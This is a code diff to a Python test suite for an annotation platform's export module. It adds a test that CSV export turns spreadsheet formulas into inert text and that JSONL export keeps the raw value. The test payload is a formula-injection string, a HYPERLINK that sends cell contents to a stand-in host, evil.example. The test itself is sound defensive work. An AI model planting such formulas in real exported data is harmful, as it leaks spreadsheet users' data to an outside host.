@@ -30,6 +30,7 @@ from analysis.exports import (
 from analysis.management.commands.export_gold import Command as ExportGold
 from annotate.models import Campaign, Item, Label
 from annotate.services import assignment_next, gold_set, label_submit
+from inference.models import Response
 from judging.models import Judge, JudgeRun, Verdict
 from tests.annotate.builders import annotators, campaign_over, run_with_responses
 from tests.factories import UserFactory
@@ -272,6 +273,23 @@ def test_csv_round_trips_commas_quotes_and_line_breaks(campaign: Campaign) -> No
     assert first["response"] == AWKWARD.format(n=item.response_id)
     assert first["label_A1"] == first["label_A2"] == 'a "b",\nc'
     assert len(records) == 4
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_kept_as_text(
+    campaign: Campaign,
+) -> None:
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    item = campaign.items.order_by("position").first()
+    assert item is not None
+    Response.objects.filter(pk=item.response_id).update(text=payload)
+    export = gold_export(campaign=campaign)
+    out = io.StringIO(newline="")
+    write_csv(export.rows(), out, export.annotators, export.judges)
+    records = {int(r["item_id"]): r for r in csv.DictReader(io.StringIO(out.getvalue()))}
+    assert records[item.pk]["response"] == "'" + payload
+    jsonl = io.StringIO()
+    write_jsonl(gold_export(campaign=campaign).rows(), jsonl)
+    assert payload in [json.loads(line)["response"] for line in jsonl.getvalue().splitlines()]
 
 
 def test_parquet_reads_back_as_the_rows(campaign: Campaign, tmp_path: Path) -> None:
